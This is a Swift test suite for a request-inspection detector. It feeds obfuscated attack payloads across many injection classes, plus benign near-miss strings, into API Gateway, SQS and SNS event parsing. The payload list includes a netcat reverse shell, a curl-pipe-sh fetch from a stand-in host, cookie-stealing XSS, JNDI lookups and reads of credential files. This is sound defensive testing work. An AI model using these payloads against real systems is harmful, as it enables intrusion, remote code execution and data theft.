import GuardInspect
import Testing

/// Per-class ideas, including obfuscated variants, and benign near misses. Payloads are
/// written for these tests, not taken from the corpus.
@Suite struct DetectorTests {
    static func classes(_ payload: String, at location: String = "/queryStringParameters/q") -> Set<DetectorClass> {
        Set(Inspector().inspect(payload: payload, location: location).findings.map(\.detectorClass))
    }

    static let attacks: [(DetectorClass, String)] = [
        (.sqli, "' OR 'x'='x"),
        (.sqli, "1) or (2=2"),
        (.sqli, "9 UNION/**/SELECT username,password FROM accounts"),
        (.sqli, "0 uNiOn aLl sElEcT null,table_name fRoM information_schema.tables"),
        (.sqli, "bob'; DROP TABLE members; --"),
        (.sqli, "x' AND SLEEP(3) AND 'a'='a"),
        (.sqli, "1 AND BENCHMARK(5000000,SHA1(1))"),
        (.sqli, "guest'--"),
        (.sqli, "5; WAITFOR DELAY '0:0:7'--"),
        (.sqli, "%2527%2520or%25201%253D1--"),
        (.sqli, "1/*!50000UNION*/ /*!50000SELECT*/ 1,2"),
        (.sqli, "x\" or \"\"=\""),
        (.sqli, "id=1 AND extractvalue(1,concat(0x5c,version()))"),
        (.nosqli, "{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}"),
        (.nosqli, "user[$regex]=^adm"),
        (.nosqli, "'; return this.secret == 'x'; var y='"),
        (.cmdi, "; cat /etc/hostname"),
        (.cmdi, "a$(whoami)b"),
        (.cmdi, "x`uname -a`"),
        (.cmdi, "127.0.0.1 | nc -e /bin/sh 10.0.0.9 4444"),
        (.cmdi, ";cat${IFS}/etc/hostname"),
        (.cmdi, "|| c\\u\\r\\l http://x.example/s.sh|sh"),
        (.cmdi, "& ipconfig /all"),
        (.cmdi, "$(printf 'id')"),
        (.cmdi, "%0aid"),
        (.traversal, "../../../../var/lib/secret"),
        (.traversal, "..%252f..%252f..%252fetc%252fhosts"),
        (.traversal, "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fgroup"),
        (.traversal, "....//....//....//etc/hostname"),
        (.traversal, "..\\..\\..\\windows\\win.ini"),
        (.traversal, "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow"),
        (.ssrf, "http://0x7f000001/admin"),
        (.ssrf, "http://2130706433:8080/"),
        (.ssrf, "http://[::ffff:169.254.169.254]/latest/"),
        (.ssrf, "http://0251.0376.0251.0376/"),
        (.ssrf, "http://169.254.169.254/computeMetadata/v1/"),
        (.ssrf, "gopher://127.0.0.1:6379/_INFO"),
        (.ssrf, "http://user:pass@10.1.2.3/"),
        (.ssrf, "http://metadata.google.internal/"),
        (.ssrf, "http://[::1]:22/"),
        (.ssrf, "https://127.1/"),
        (.xss, "<script>fetch('//x.example/'+document.cookie)</script>"),
        (.xss, "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (.xss, "&#60;script&#62;alert(1)&#60;/script&#62;"),
        (.xss, "<img src=x onerror=alert(1)>"),
        (.xss, "<svg/onload=confirm(1)>"),
        (.xss, "\" autofocus onfocus=alert(1) x=\""),
        (.xss, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
        (.xss, "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        (.xss, "';alert(String.fromCharCode(88))//"),
        (.ssti, "{{7*7}}"),
        (.ssti, "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        (.ssti, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        (.ssti, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        (.ssti, "#{7*7}"),
        (.jndi, "${jndi:ldap://x.example/a}"),
        (.jndi, "${${lower:j}ndi:ldap://x.example/a}"),
        (.jndi, "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}"),
        (.jndi, "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}"),
        (.jndi, "%24%7Bjndi%3Adns%3A%2F%2Fx.example%7D"),
        (.xxe, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>"),
        (.xxe, "<!DOCTYPE r SYSTEM \"http://x.example/evil.dtd\"><r/>"),
        (.proto, "{\"__proto__\":{\"isAdmin\":true}}"),
        (.proto, "a[constructor][prototype][polluted]=1"),
        (.proto, "x.__proto__.admin=1"),
        (.deser, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
        (.deser, "O:4:\"User\":1:{s:4:\"role\";s:5:\"admin\";}"),
        (.deser, "!!python/object/apply:os.system [\"id\"]"),
        (.deser, "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
        (.deser, "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}"),
        (.ldap, "*)(uid=*))(|(uid=*"),
        (.ldap, "admin)(&)"),
        (.ldap, "x)(|(objectClass=*)"),
        (.crlf, "en\r\nSet-Cookie: sid=1"),
        (.crlf, "x%0d%0aLocation:%20http://x.example/"),
        (.crlf, "%250d%250aX-Injected:%201"),
    ]

    @Test(arguments: attacks.indices)
    func detectsAttack(_ i: Int) {
        let (cls, payload) = Self.attacks[i]
        #expect(Self.classes(payload).contains(cls), "\(cls) missed: \(payload)")
    }

    static let nearMisses: [String] = [
        "O'Brien", "Rock 'n' roll", "It's 5 o'clock", "select the best option; drop by anytime",
        "Union Station, platform 3", "1 or 2 cups of flour", "Tom & Jerry", "R&D; Q&A", "copy & paste",
        "cat food; sleep well", "echo chamber", "I'd like to drop my class", "2 + 2 = 4", "50% off",
        "../shared/notes.txt is missing", "http://example.com/page", "https://api.example.com/v1/users?id=10",
        "192.0.2.10", "10:30", "1/4 inch", "<b>bold</b>", "<a href=\"https://example.com\">link</a>",
        "Hello {{first_name}}", "Dear ${NAME}", "{% $SENDER %}", "javascript: the good parts",
        "Use `ls -la` to list files in the current directory", "x = y; z = 1", "a && b || c",
        "user_name", "constructor function", "prototype design", "java is fun", "O:8 is the score",
        "(see note 1)(page 2)", "Line one\r\nLine two", "Location: Berlin", "{\"$schema\":\"x\"}",
        "Price $10 | Tax $1", "email@example.com", "SGVsbG8gd29ybGQ=", "eyJhbGciOiJIUzI1NiJ9.e30.abc",
        "The 'or' operator", "WHERE are you?", "order by date", "Is 1 = 1?", "it's 'fine' or not",
        "C:\\Users\\me\\file.txt", "/api/v1/items/42", "mailto:a@example.com", "100% cotton; 5 colours",
    ]

    @Test(arguments: nearMisses)
    func passesNearMiss(_ payload: String) {
        #expect(Self.classes(payload).isEmpty, "flagged: \(payload) as \(Self.classes(payload))")
    }

    @Test func findingsCarryPointerAndShortEvidence() {
        let long = String(repeating: "a", count: 500) + "' or 1=1--" + String(repeating: "b", count: 500)
        let event =
            "{\"headers\":{\"content-type\":\"application/json\"},\"body\":\"{\\\"user\\\":{\\\"name\\\":\\\"\(long)\\\"}}\"}"
        let r = Inspector().inspect(event: Array(event.utf8))
        #expect(r.findings.first?.location == "/body/user/name")
        #expect((r.findings.first?.evidence.count ?? 99) <= 80)
    }

    @Test func base64BodiesAreDecoded() {
        // "q=<script>alert(1)</script>" as a form body, base64 as API Gateway marks it.
        let body = "cT08c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+"
        let event =
            "{\"headers\":{\"content-type\":\"application/x-www-form-urlencoded\"},\"body\":\"\(body)\",\"isBase64Encoded\":true}"
        let r = Inspector().inspect(event: Array(event.utf8))
        #expect(r.findings.map(\.location) == ["/body/q"])
    }

    @Test func eventShapes() {
        let sqs = "{\"Records\":[{\"messageId\":\"1\",\"body\":\"{\\\"cmd\\\":\\\"; cat /etc/shadow\\\"}\"}]}"
        #expect(Set(Inspector().inspect(event: Array(sqs.utf8)).findings.map(\.location)) == ["/Records/0/body/cmd"])
        let sns =
            "{\"Records\":[{\"Sns\":{\"Message\":\"{\\\"url\\\":\\\"http://169.254.169.254/latest/meta-data/\\\"}\"}}]}"
        #expect(Inspector().inspect(event: Array(sns.utf8)).findings.map(\.location) == ["/Records/0/Sns/Message/url"])
        let v1 = "{\"resource\":\"/\",\"multiValueQueryStringParameters\":{\"id\":[\"1\",\"1 union select 1,2\"]}}"
        #expect(
            Inspector().inspect(event: Array(v1.utf8)).findings.map(\.location) == [
                "/multiValueQueryStringParameters/id/1"
            ])
        let keys =
            "{\"body\":\"{\\\"user\\\":{\\\"$gt\\\":\\\"\\\"}}\",\"headers\":{\"Content-Type\":\"application/json\"}}"
        #expect(Inspector().inspect(event: Array(keys.utf8)).findings.map(\.detectorClass) == [.nosqli])
        let cookie = "{\"cookies\":[\"session=abc\",\"theme=<script>alert(1)</script>\"]}"
        #expect(Inspector().inspect(event: Array(cookie.utf8)).findings.map(\.location) == ["/cookies/1/theme"])
    }

    /// `version`, `routeKey`, `resource` and `httpMethod` are API Gateway's own only in an
    /// event API Gateway made (it has a requestContext); in any other JSON they are data.
    @Test func gatewayFieldsAreSkippedOnlyInGatewayEvents() {
        for (key, payload, detector) in [
            ("resource", "../../../../etc/passwd", DetectorClass.traversal), ("version", "; cat /etc/passwd", .cmdi),
            ("routeKey", "' OR 1=1--", .sqli), ("httpMethod", "<script>alert(1)</script>", .xss),
        ] {
            let direct = "{\"\(key)\":\"\(payload)\"}"
            #expect(Inspector().inspect(event: Array(direct.utf8)).findings.map(\.detectorClass).contains(detector), "\(key)")
        }
        let gateway = "{\"version\":\"2.0\",\"routeKey\":\"ANY /{proxy+}\",\"rawPath\":\"/x\",\"requestContext\":{\"stage\":\"$default\"}}"
        #expect(Inspector().inspect(event: Array(gateway.utf8)).findings.isEmpty)
    }

    @Test func detectorSelection() {
        let only = Inspector(detectors: [.xss])
        #expect(only.inspect(payload: "' or 1=1--", location: "/q").findings.isEmpty)
        #expect(!only.inspect(payload: "<script>alert(1)</script>", location: "/q").findings.isEmpty)
    }
}
